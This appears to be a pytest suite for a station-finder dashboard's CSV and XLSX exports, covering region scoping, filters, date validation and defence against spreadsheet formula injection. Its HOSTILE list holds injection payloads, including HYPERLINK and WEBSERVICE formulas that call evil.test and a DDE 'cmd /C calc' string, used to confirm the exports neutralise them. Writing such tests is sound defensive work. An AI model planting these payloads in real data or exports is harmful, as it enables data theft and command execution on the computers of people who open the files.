"""Exports: every dashboard table as CSV (UTF-8 with BOM) and XLSX, read back, with filters and scope."""

import csv
import io
import re
from html import unescape

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from stationfinder.dashboard import report_tables
from stationfinder.extensions import db
from stationfinder.models import Station
from tests.factories import StationFactory
from tests.staff import login
from tests.stats_world import NOW, build_world, checkin, make_users, world_total

TABLES = ("summary", "days", "heatmap", "busiest", "least_used", "categories", "regions", "map")
RANGE = {"from": "2025-03-01", "to": "2025-03-10", "lang": "zh"}


@pytest.fixture
def world(app):
    with app.app_context():
        build_world()
        make_users()


def read_csv(response) -> list[list[str]]:
    assert response.content_type.startswith("text/csv")
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def read_xlsx(response) -> tuple[list[list], dict]:
    assert response.content_type.startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    book = load_workbook(io.BytesIO(response.data))
    rows = [list(r) for r in book.worksheets[0].iter_rows(values_only=True)]
    info = {k: v for k, v in book["info"].iter_rows(values_only=True)}
    return rows, info


@pytest.mark.parametrize("name", TABLES)
def test_every_table_exports_the_same_rows_as_csv_and_xlsx(client, world, name):
    login(client, "gy")
    as_csv = read_csv(client.get(f"/dashboard/export/{name}.csv", query_string=RANGE))
    as_xlsx, info = read_xlsx(client.get(f"/dashboard/export/{name}.xlsx", query_string=RANGE))
    assert as_csv[0] == [str(c) for c in as_xlsx[0]]
    assert len(as_csv) == len(as_xlsx) > 1
    for text_row, cell_row in zip(as_csv[1:], as_xlsx[1:], strict=True):
        assert [_same(t) for t in text_row] == [_same(c) for c in cell_row]
    assert "2025-03-01" in info.values() and "2025-03-10" in info.values()


def _same(value):
    """Return a cell as CSV and XLSX both hold it: numbers as floats, blanks as ""."""
    if value is None or value == "":
        return ""
    try:
        return float(value)
    except (TypeError, ValueError):
        return str(value)


def test_exports_hold_only_the_callers_region(client, world):
    login(client, "gy")
    days = read_csv(client.get("/dashboard/export/days.csv", query_string=RANGE))
    assert sum(int(r[1]) for r in days[1:]) == world_total("520100")
    stations = read_csv(client.get("/dashboard/export/map.csv", query_string=RANGE))
    keys = {r[0] for r in stations[1:]}
    assert "gy-yunyan-1" in keys and not keys & {"bj-qxg-1", "sz-nanshan-1", "bj-chaoyang-1"}
    regions = read_csv(client.get("/dashboard/export/regions.csv", query_string=RANGE))
    assert {r[0] for r in regions[1:]} == {"520102", "520103"}
    assert (
        client.get("/dashboard/export/days.csv", query_string={**RANGE, "region": "520500"}).status_code
        == 403
    )


def test_exports_count_a_checkin_still_pending(app, client, world):
    with app.app_context():
        checkin(db.session.scalar(sa.select(Station).where(Station.ref == "gy-yunyan-1")), NOW, "late-rider")
        db.session.commit()
    login(client, "gy")
    days = read_csv(client.get("/dashboard/export/days.csv", query_string=RANGE))
    assert sum(int(r[1]) for r in days[1:]) == world_total("520100") + 1


def test_exports_follow_the_filters(client, world):
    login(client, "admin")
    rows = read_csv(client.get("/dashboard/export/days.csv", query_string={**RANGE, "region": "520502"}))
    assert sum(int(r[1]) for r in rows[1:]) == world_total("520502")
    short = read_csv(client.get("/dashboard/export/days.csv", query_string={**RANGE, "from": "2025-03-09"}))
    assert [r[0] for r in short[1:]] == ["2025-03-09", "2025-03-10"]
    heat = read_csv(client.get("/dashboard/export/heatmap.csv", query_string=RANGE))
    assert len(heat) == 8 and len(heat[0]) == 25
    assert sum(int(v) for r in heat[1:] for v in r[1:]) == world_total(None)


def test_station_names_cannot_become_formulas(client, app, world):
    with app.app_context():
        station = db.session.query(Station).filter_by(ref="gy-yunyan-1").one()
        station.name = '=HYPERLINK("http://evil.test","x")'
        db.session.commit()
    login(client, "admin")
    rows = read_csv(client.get("/dashboard/export/busiest.csv", query_string=RANGE))
    names = [r[2] for r in rows[1:]]
    assert '\'=HYPERLINK("http://evil.test","x")' in names
    as_xlsx, _info = read_xlsx(client.get("/dashboard/export/busiest.xlsx", query_string=RANGE))
    assert '\'=HYPERLINK("http://evil.test","x")' in [r[2] for r in as_xlsx[1:]]


# Names a manager might give a station to plant a formula in the exports of every staff member.
HOSTILE = (
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    '=WEBSERVICE("http://evil.test/")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
)
FORMULA_START = tuple("=+-@\t\r\x00＝＋－＠")


def formula_like(value) -> bool:
    """Return whether a cell value would start a formula: unescaped, leading whitespace ignored."""
    return isinstance(value, str) and (
        value.startswith(FORMULA_START) or value.lstrip().startswith(FORMULA_START)
    )


def export_links(html: str) -> list[str]:
    """Return every export link of a dashboard page, as the browser would follow it."""
    return sorted({unescape(href) for href in re.findall(r'href="(/dashboard/export/[^"]+)"', html)})


def test_no_export_link_of_the_dashboard_holds_a_live_formula(client, app, world):
    with app.app_context():
        stations = db.session.scalars(sa.select(Station).order_by(Station.id)).all()
        for station, name in zip(stations, HOSTILE, strict=False):
            station.name = name
        for index, name in enumerate(HOSTILE[len(stations) :]):
            StationFactory(ref=f"hostile-{index}", name=name, region_code="520103")
        db.session.commit()
        area = db.session.scalar(sa.select(Station.name).where(Station.ref == "gy-yunyan-1"))
    login(client, "admin")
    seen: set[str] = set()
    # The whole country, then one station, whose name is the info sheet's "Area" too.
    for filters in ({}, {"station": "gy-yunyan-1"}):
        page = client.get("/dashboard/", query_string={**RANGE, **filters})
        assert page.status_code == 200
        links = export_links(page.get_data(as_text=True))
        # The check-in tables and the riders' reports ones (dashboard/report_tables.py).
        assert len(links) == 2 * (len(TABLES) + len(report_tables.TABLES)), links
        for link in links:
            response = client.get(link)
            assert response.status_code == 200, link
            if ".csv?" in link:
                cells = [cell for row in read_csv(response) for cell in row]
            else:
                book = load_workbook(io.BytesIO(response.data))
                assert book.sheetnames[1:] == ["info"], link
                every = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
                assert [c.coordinate for c in every if c.data_type == "f"] == [], link
                cells = [c.value for c in every]
            live = [cell for cell in cells if formula_like(cell)]
            assert live == [], (link, live)
            seen.update(cell for cell in cells if isinstance(cell, str))
    # Every hostile name reached an export, whole, behind the apostrophe.
    assert {"'" + name for name in HOSTILE} <= seen
    query = {**RANGE, "station": "gy-yunyan-1", "lang": "en"}
    book = load_workbook(io.BytesIO(client.get("/dashboard/export/summary.xlsx", query_string=query).data))
    assert dict(book["info"].iter_rows(values_only=True))["Area"] == "'" + area


def test_the_regions_code_column_is_a_region_code_in_chinese(client, world):
    login(client, "admin")
    zh = read_csv(client.get("/dashboard/export/regions.csv", query_string=RANGE))
    assert zh[0][0] == "区划代码"
    en = read_csv(client.get("/dashboard/export/regions.csv", query_string={**RANGE, "lang": "en"}))
    assert en[0][0] == "Code"


def test_days_outside_2000_to_2100_are_a_friendly_400(client, world):
    login(client, "admin")
    for query in ({"from": "0001-01-01", "to": "0001-01-31"}, {"to": "9999-12-31"}):
        for name in TABLES:
            for fmt in ("csv", "xlsx"):
                response = client.get(f"/dashboard/export/{name}.{fmt}", query_string={**query, "lang": "en"})
                assert response.status_code == 400, (name, fmt, query)
                assert response.mimetype == "text/html"
                assert "between 2000-01-01 and 2100-12-31" in response.get_data(as_text=True)


def test_unknown_tables_and_formats_are_404(client, world):
    login(client, "admin")
    assert client.get("/dashboard/export/secrets.csv").status_code == 404
    assert client.get("/dashboard/export/days.pdf").status_code == 404
